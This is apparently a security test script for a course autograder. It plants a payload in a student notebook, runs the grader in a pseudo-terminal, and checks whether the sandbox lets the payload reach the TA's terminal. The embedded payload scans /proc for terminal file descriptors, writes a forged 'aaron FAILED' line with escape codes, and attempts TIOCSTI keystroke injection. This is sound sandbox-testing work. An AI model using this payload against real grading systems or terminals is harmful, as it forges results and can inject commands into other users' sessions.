"""a07: the TA runs make grade in a terminal (here: a pseudo-terminal made by this script, the grader's stdin, stdout
and stderr). Does any process of mallory's sandbox (her kernel, bwrap's init, the placeholder, whose fds she may open
through /proc as the same user) hold that terminal? If so she writes raw bytes to the TA's screen (past every escape
of the kept logs) and tries TIOCSTI. Controls aaron and zoe beside her."""
import os, pty, select, subprocess, sys, time
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
import harness
PAYLOAD = r'''
import os, fcntl, termios, json
found = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try: fds = os.listdir(f"/proc/{pid}/fd")
    except OSError as e: found.append((pid, "fd list", str(e))); continue
    for fd in fds:
        try: t = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError as e: t = "?" + str(e)
        found.append((pid, fd, t))
        if "pts" in t or "tty" in t or "ptmx" in t:
            try:
                w = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NOCTTY)
                os.write(w, b"\r\n[W 00:00:00.000 GradeApp] FORGED BY MALLORY: aaron FAILED (ESC test \x1b[31mRED\x1b[0m)\r\n")
                found.append(("WROTE", pid, fd, t))
                try:
                    fcntl.ioctl(w, termios.TIOCSTI, b"x"); found.append(("TIOCSTI ok", pid, fd))
                except OSError as e: found.append(("TIOCSTI", str(e)))
            except OSError as e:
                found.append(("open", pid, fd, t, str(e)))
try:
    os.open("/dev/tty", os.O_RDWR); found.append("/dev/tty opened")
except OSError as e: found.append(("/dev/tty", str(e)))
print("A07", json.dumps(found))
'''
d = harness.course("a07")
for c in ("aaron", "zoe"):
    harness.hand_in(d, c, "ps1_memory", harness.nb_for("ps1_memory"))
harness.hand_in(d, "mallory", "ps1_memory", harness.nb_for("ps1_memory", harness.with_payload("ps1_memory", "training_memory", PAYLOAD)))
pid, master = pty.fork()
if pid == 0:
    os.execvpe("setpriv", ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "CLONE/.venv/bin/python", "-m", "grader.grade",
                           "--course-dir", d, "--workers", "1", "ps1_memory"], dict(harness.ENV, TERM="xterm"))
os.chdir((__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))))
screen = b""
t = time.time()
while time.time() - t < 600:
    r, _, _ = select.select([master], [], [], 1)
    if r:
        try: chunk = os.read(master, 65536)
        except OSError: break
        if not chunk: break
        screen += chunk
_, status = os.waitpid(pid, 0)
print("grader exit", status >> 8, "in %.1fs" % (time.time() - t))
print("TA's terminal saw FORGED:", b"FORGED BY MALLORY" in screen)
print("terminal tail:", screen[-1500:].decode(errors="replace"))
harness.scores(d, "ps1_memory")
out = harness.outputs(d, "mallory", "ps1_memory")
i = out.find("A07")
print(out[i:i + 6000] if i >= 0 else "no A07 output in mallory's graded notebook")
